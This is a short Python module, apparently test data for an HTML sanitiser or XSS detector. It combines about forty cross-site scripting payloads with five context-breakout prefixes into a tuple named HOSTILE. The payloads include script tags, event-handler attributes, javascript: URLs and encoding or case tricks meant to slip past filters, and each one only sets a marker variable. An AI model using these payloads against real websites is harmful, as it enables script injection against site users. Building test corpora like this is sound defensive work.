"""Texts that run in a page which takes them for markup: ways in, each behind ways out of where a text may stand."""

from __future__ import annotations

# Each sets `fired` where it runs.
_WAYS_IN = (
    "<script>fired=1</script>",
    "<ScRiPt >fired=1</sCrIpT>",
    "<script src=data:text/javascript,fired=1></script>",
    "<img src=x onerror=fired=1>",
    "<img src=x onerror='fired=1'>",
    "<img/src=x/onerror=fired=1>",
    "<img src=x:x onerror=&#102;ired=1>",
    "<IMG SRC=x OnErRoR=fired=1>",
    "<img src=x oneonerrorrror=1 onerror=fired=1>",
    "<img\nsrc=x\nonerror\n=\nfired=1>",
    "<svg onload=fired=1>",
    "<svg/onload=fired=1>",
    "<svg><animate onbegin=fired=1 attributeName=x dur=1s>",
    "<svg><script>fired=1</script></svg>",
    "<svg><a href=javascript:fired=1><text y=9>x</text></a></svg>",
    "<video><source onerror=fired=1></video>",
    "<video src=x onerror=fired=1>",
    "<audio src=x onerror=fired=1>",
    "<input onfocus=fired=1 autofocus>",
    "<input type=image src=x onerror=fired=1>",
    "<button onclick=fired=1>x</button>",
    "<a href=javascript:fired=1>x</a>",
    "<a href='jAvAsCrIpT:fired=1'>x</a>",
    "<a href='java&#10;script:fired=1'>x</a>",
    "<a href='&#106;avascript:fired=1'>x</a>",
    "<details open ontoggle=fired=1>",
    "<iframe src=javascript:top.fired=1></iframe>",
    "<iframe srcdoc='<script>top.fired=1</script>'></iframe>",
    "<iframe onload=fired=1></iframe>",
    "<object data=javascript:fired=1></object>",
    "<embed src=javascript:fired=1>",
    "<style onload=fired=1></style>",
    "<link rel=stylesheet href=data:, onload=fired=1 onerror=fired=1>",
    "<marquee onstart=fired=1>x</marquee>",
    "<form><button formaction=javascript:fired=1>x</button></form>",
    "<math><mi xlink:href=javascript:fired=1>x</mi></math>",
    "<select autofocus onfocus=fired=1></select>",
    "<div style=animation-name:x onanimationstart=fired=1>",
    "<p onpointerenter=fired=1 style=position:fixed;inset:0>",
    "<noscript><p title='</noscript><img src=x onerror=fired=1>'>",
)

# Out of an element, an attribute, a comment or script, a template or a text field.
_WAYS_OUT = ("", '">', "'-->", "${fired=1}{{fired=1}}</script>", "</textarea></title></style>")

HOSTILE = tuple(f"{out}{into}" for out in _WAYS_OUT for into in _WAYS_IN)
